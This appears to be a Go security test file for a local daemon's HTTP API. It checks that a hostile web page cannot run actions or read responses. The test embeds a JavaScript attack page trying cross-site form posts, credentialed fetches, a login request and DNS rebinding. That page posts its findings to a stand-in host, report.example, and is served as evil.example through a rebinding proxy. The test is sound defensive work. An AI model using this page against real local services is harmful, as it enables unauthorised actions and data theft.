//go:build external

package httpapi_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os/exec"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/fermenthq/ferment/host/internal/orchestration/dispatch/dispatchtest"
	"github.com/fermenthq/ferment/host/internal/runtime/httpapi"
	"github.com/fermenthq/ferment/sdk/edn"
)

// attacks is a page that does what a page of another site can do to a daemon at TARGET,
// and reports for each attempt what it could read.
const attacks = `<!doctype html><body><script>
const target = "TARGET", act = 'ACT', results = {};
async function read(name, f) {
  try { const r = await f(); results[name] = r.type + " " + r.status + " " + (await r.text()).slice(0, 400) } catch (e) { results[name] = "blocked" }
}
function submit(type, fields) {
  const frame = document.createElement("iframe"); frame.name = "f" + Math.random(); document.body.append(frame);
  const form = document.createElement("form");
  form.method = "POST"; form.enctype = type; form.action = target + "/v1/act"; form.target = frame.name;
  for (const [name, value] of fields) { const i = document.createElement("input"); i.name = name; i.value = value; form.append(i) }
  document.body.append(form); form.submit();
  return new Promise(done => frame.onload = done);
}
(async () => {
  const half = act.indexOf(" ");
  await Promise.race([submit("text/plain", [[act.slice(0, half), act.slice(half)]]), new Promise(r => setTimeout(r, 30000))]);
  await Promise.race([submit("application/x-www-form-urlencoded", [["prompt", "x"]]), new Promise(r => setTimeout(r, 30000))]);
  await Promise.race([submit("multipart/form-data", [["prompt", "x"]]), new Promise(r => setTimeout(r, 30000))]);
  const post = (more) => () => fetch(target + "/v1/act", Object.assign({ method: "POST", body: act }, more));
  await read("EDN as text/plain", post({ mode: "no-cors", headers: { "Content-Type": "text/plain" } }));
  await read("text with cookies", post({ mode: "no-cors", credentials: "include", headers: { "Content-Type": "text/plain" } }));
  await read("EDN with preflight", post({ headers: { "Content-Type": "application/edn" } }));
  await read("EDN with cookies", post({ credentials: "include", headers: { "Content-Type": "application/edn" } }));
  await read("with a token", post({ headers: { "Authorization": "Bearer x" } }));
  await read("who am I", () => fetch(target + "/v1/whoami"));
  await read("who am I, with cookies", () => fetch(target + "/v1/whoami", { credentials: "include" }));
  await read("login", () => fetch(target + "/v1/auth/login", { method: "POST", mode: "no-cors", credentials: "include", body: '{"login":"ann","password":"three small words"}' }));
  navigator.sendBeacon(target + "/v1/act", act);
  await fetch("/flip", { method: "POST" }); // from now on this host name leads to the daemon
  await read("rebinding", () => fetch("/v1/act", { method: "POST", headers: { "Content-Type": "application/edn" }, body: act }));
  await read("rebinding, read", () => fetch("/v1/whoami"));
  await fetch("REPORT", { method: "POST", mode: "no-cors", body: JSON.stringify(results) });
})();
</script></body>`

// rebinder is a host that serves a page, and once it is flipped leads to the daemon, as a
// name whose address its owner changes.
type rebinder struct {
	net.Listener
	page, daemon string
	flipped      atomic.Bool
}

func (r *rebinder) run() {
	for {
		conn, err := r.Accept()
		if err != nil {
			return
		}
		go r.serve(conn)
	}
}

func (r *rebinder) serve(conn net.Conn) {
	defer func() { _ = conn.Close() }()
	to := r.page
	if r.flipped.Load() {
		to = r.daemon
	}
	out, err := net.Dial("tcp", to)
	if err != nil {
		return
	}
	defer func() { _ = out.Close() }()
	go func() {
		_, _ = io.Copy(out, conn)
		_ = out.(*net.TCPConn).CloseWrite()
	}()
	_, _ = io.Copy(conn, out)
}

// AUTH-032: a page of another site, opened in a browser on the machine of a daemon whose
// callers need no credentials, neither has an act executed nor reads anything: not with
// forms, not with fetch and cookies or without, not with EDN as text, and not under a
// name that leads to the daemon later. The same holds for a daemon whose callers need
// credentials, and over TLS.
func TestHostilePage(t *testing.T) {
	_, err := exec.LookPath("chromium")
	require.NoError(t, err, "chromium is not installed")
	config, _ := certified(t, 1)
	for name, change := range map[string]func(*httpapi.Settings){
		"open":   browsers,
		"strict": func(s *httpapi.Settings) { strict(s); browsers(s) },
		"TLS":    func(s *httpapi.Settings) { s.TLS = config; browsers(s) },
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t, change)
			w.user("ann")
			seen := 0
			w.exec.On("t/any", dispatchtest.Step{Value: edn.MustRead(`{:n 1}`)})
			results := visit(t, w, name == "TLS")
			t.Logf("%v", results)
			w.mu.Lock()
			for _, r := range w.rejections {
				assert.Contains(t, []string{"http/cross-origin", "http/misdirected"}, r.Err.Type)
				seen++
			}
			w.mu.Unlock()
			assert.GreaterOrEqual(t, seen, 6, "the daemon has seen the attempts")
			assert.Empty(t, w.exec.Calls(), "none was executed")
			for what, read := range results {
				switch {
				case strings.HasPrefix(what, "rebinding"):
					assert.Regexp(t, `^basic 421 .*http/misdirected`, read, what)
				case read != "blocked":
					assert.Equal(t, "opaque 0 ", read, what)
				}
			}
			assert.Len(t, results, 10)
		})
	}
}

// visit opens the page of attacks in Chromium under a foreign name and returns its report. If
// the daemon is secure, the page is too, and the browser trusts every certificate.
func visit(t *testing.T, w *world, secure bool) map[string]string {
	t.Helper()
	got := make(chan map[string]string, 1)
	host := &rebinder{daemon: w.address}
	var err error
	host.Listener, err = (&net.ListenConfig{}).Listen(t.Context(), "tcp", "127.0.0.1:0")
	require.NoError(t, err)
	var once sync.Once
	scheme := "http"
	if secure {
		scheme = "https"
	}
	page := httptest.NewUnstartedServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		rw.Header().Set("Connection", "close") // a name that leads elsewhere needs a new connection
		switch r.URL.Path {
		case "/flip":
			host.flipped.Store(true)
		case "/report":
			var results map[string]string
			if json.Unmarshal(body, &results) == nil {
				once.Do(func() { got <- results })
			}
		case "/":
			rw.Header().Set("Content-Type", "text/html")
			_, _ = fmt.Fprint(rw, strings.NewReplacer(
				"TARGET", scheme+"://"+w.address,
				"ACT", strings.ReplaceAll(ednAct("t/any", "{}"), "\n", " "),
				"REPORT", scheme+"://report.example:"+port(r.Context().Value(http.LocalAddrContextKey).(net.Addr).String())+"/report",
			).Replace(attacks))
		}
	}))
	if secure {
		page.StartTLS()
	} else {
		page.Start()
	}
	defer page.Close()
	host.page = page.Listener.Addr().String()
	go host.run()
	defer func() { _ = host.Close() }()
	ctx, cancel := context.WithTimeout(t.Context(), 10*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, "chromium",
		"--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-dev-shm-usage", "--disable-background-networking",
		"--user-data-dir="+t.TempDir(), "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP report.example 127.0.0.1",
		"--no-proxy-server", "--ignore-certificate-errors", "--remote-debugging-port=0", scheme+"://evil.example:"+port(host.Addr().String())+"/")
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	require.NoError(t, cmd.Start())
	defer func() {
		cancel()
		_ = cmd.Wait()
	}()
	select {
	case results := <-got:
		return results
	case <-ctx.Done():
		t.Fatalf("the page has not reported: %s", stderr.String())
		return nil
	}
}

func port(address string) string {
	_, port, _ := net.SplitHostPort(address)
	return port
}
